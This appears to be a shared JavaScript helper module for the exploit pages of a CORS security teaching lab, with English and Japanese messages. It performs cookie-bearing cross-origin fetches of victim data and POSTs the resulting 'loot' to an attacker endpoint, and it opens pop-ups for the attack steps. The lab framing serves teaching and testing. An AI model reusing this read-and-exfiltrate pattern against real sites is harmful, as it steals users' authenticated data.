// What every exploit page shares: its configuration, the tagged API URLs, reporting the
// loot to the attacker's own server (its access log shows it), and showing the outcome,
// here and to the lab page that opened this window (it shows the result beside the button
// the learner pressed). Paths are relative to the page (`/<id>/`), wherever its router is
// mounted.

export const config = JSON.parse(document.getElementById("config").textContent);

const ja = config.lang === "ja";

/** `path` on the attacked mount, tagged for the lab's exchange log. */
export function apiUrl(path, credentials) {
  const url = new URL(config.api + path);
  if (config.lab) url.searchParams.set("lab", `${config.lab}.${credentials}`);
  return url.href;
}

/** `fetch(url)` with the visitor's cookies: the status and JSON body, or the browser's error. */
export async function readWithCookies(url) {
  try {
    const res = await fetch(url, { credentials: "include" });
    return { status: res.status, body: await res.json().catch(() => null) };
  } catch (e) {
    return { error: `${e.name}: ${e.message}` };
  }
}

/** Sends what the attack obtained to the attacker's server, as a real exploit would. */
export async function report(loot) {
  const url = new URL("loot", location.href);
  if (config.lab) url.searchParams.set("lab", config.lab);
  try {
    await fetch(url, { method: "POST", body: JSON.stringify(loot), headers: { "Content-Type": "text/plain" } });
  } catch {
    // The page shows the outcome either way.
  }
}

/** How an outcome is announced: a trap springs, an attack succeeds. */
const HEADLINES = config.kind === "page_calls"
  ? { succeeded: { en: "The trap sprang", ja: "罠にかかりました" }, failed: { en: "The trap did not show", ja: "罠は現れませんでした" } }
  : { succeeded: { en: "The attack succeeded", ja: "攻撃は成功しました" }, failed: { en: "The attack failed", ja: "攻撃は失敗しました" } };

/** Tells the lab page that opened this window (if it did) how the attack is going. Only that
 *  origin may read it: the loot is the visitor's. */
function tellTheLab(message) {
  if (!window.opener || !config.page) return;
  window.opener.postMessage({ corslab: "exploit", id: config.id, against: config.against, ...message }, config.page);
}

/** Shows a step of a longer attack (`phase`, e.g. "planted": what the learner does next), here
 *  and on the lab page. */
export function progress(phase, text) {
  document.body.dataset.phase = phase;
  document.getElementById("outcome").textContent = ja ? text.ja : text.en;
  tellTheLab({ phase, text });
}

/** A button on this page for what a browser allows only after a click here (a pop-up
 *  window); resolves once it is pressed. The lab page is told, too: the learner is there. */
export function afterAClick(label) {
  const button = document.createElement("button");
  button.textContent = ja ? label.ja : label.en;
  document.getElementById("outcome").before(button);
  progress("click", {
    en: "Your browser blocked the attacker's pop-up window: press the button on the attacker's page to go on.",
    ja: "ブラウザーが攻撃者のポップアップウィンドウをブロックしました。続けるには攻撃者のページのボタンを押してください。",
  });
  return new Promise((resolve) => button.addEventListener("click", () => { button.remove(); resolve(); }, { once: true }));
}

/** Shows the outcome and marks the page with it (`data-outcome`, for the lab and its tests). */
export function finish(succeeded, loot, summary) {
  const result = succeeded ? "succeeded" : "failed";
  document.body.dataset.outcome = result;
  const headline = HEADLINES[result];
  const outcome = document.getElementById("outcome");
  outcome.textContent = ja ? `${headline.ja}: ${summary.ja}` : `${headline.en}: ${summary.en}`;
  document.getElementById("loot").textContent = JSON.stringify(loot, null, 2);
  window.corslabLoot = loot;
  // The loot itself went to the attacker's server (`report`), whose log the lab page reads.
  tellTheLab({ outcome: result, headline, summary });
}

/**
 * A window named `name`, blank, for the top-level navigations an attack makes; where the
 * browser blocks pop-ups without a click, a button (`label`, {en, ja}) asks for one.
 */
export async function openWindow(name, label) {
  const opened = window.open("about:blank", name);
  if (opened) return opened;
  await afterAClick(label);
  return window.open("about:blank", name);
}
